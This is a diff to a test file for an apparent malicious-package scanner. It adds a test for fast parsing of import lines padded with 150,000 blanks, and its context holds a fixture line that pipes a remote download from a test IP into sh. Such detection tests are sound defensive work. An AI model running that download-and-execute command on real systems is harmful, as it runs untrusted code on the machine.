@@ -58,6 +58,18 @@ describe('auxiliary files', () => {
     expect(r.verdict).toBe('malicious');
   });
 
+  it('import lines of 150,000 blanks are read in one pass when following imports', async () => {
+    // `from[ \t]+([\w.]*)[ \t]+import` split the run every way, and `split(/\s+as\s+/)` rescanned it.
+    const blanks = ' '.repeat(150_000);
+    const r = await scan({
+      'demo-1.0/demo/__init__.py': lines('from demo.tests import helper'),
+      'demo-1.0/demo/other.py': lines(`from${blanks}#import x`, `import a${blanks}b`),
+      'demo-1.0/demo/tests/__init__.py': '',
+      'demo-1.0/demo/tests/helper.py': exfil,
+    });
+    expect(r.verdict).toBe('malicious');
+  });
+
   it('a shell script weighs a quarter unless the package runs it', async () => {
     const sh = lines('curl -s http://203.0.113.5/x | sh');
     const alone = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/build.sh': sh });
